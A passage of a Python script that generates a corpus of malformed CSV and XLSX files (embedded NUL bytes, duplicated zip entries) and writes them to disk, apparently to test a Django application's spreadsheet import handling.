    add("nul", "nul-dau.csv", b"\x00\x00" + csv_bytes([org_headers]))
    add("nul", "nul-giua.csv", csv_bytes([org_headers] + [["x" * 40, "1", "2"]] * 200) + b"Cong ty\x00,1,2\r\n")
    add("nul", "nul-trong-o.xlsx", xlsx(sheet_xml([org_headers, ["Công ty_x0000_A", "0900123457", "Doanh nghiệp"]])))
    add("nul", "nul-sst.xlsx", xlsx(sheet_s0, sst=sst("", "Công ty_x0000_B")))
    return out


def _duplicate_entry(data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w") as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info))
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            target.writestr("xl/worksheets/sheet1.xml", sheet_xml([["Tên tổ chức"], ["Công ty"]]))
    return buffer.getvalue()


def main(argv: list[str]) -> None:
    import django

    django.setup()
    from khcn.core import datasets

    target = Path(argv[1] if len(argv) > 1 else "hostile-corpus")
    target.mkdir(parents=True, exist_ok=True)
    for n, sample in enumerate(corpus(datasets.all())):
        safe = "".join(ch if ch.isalnum() or ch in "-." else "_" for ch in sample.name)[:100]
        (target / f"{n:04d}-{sample.category}-{safe}").write_bytes(sample.data)


if __name__ == "__main__":
    main(sys.argv)
